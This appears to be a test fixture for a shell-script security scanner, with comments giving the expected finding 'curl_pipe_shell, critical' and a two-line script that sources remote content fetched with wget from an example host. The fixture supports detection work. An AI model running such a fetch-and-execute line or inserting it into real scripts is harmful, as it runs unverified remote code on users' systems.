# expect: shell.curl_pipe_shell critical
# path: scripts/s.sh
#!/bin/sh
. <(wget -qO- https://get.example.net/env)
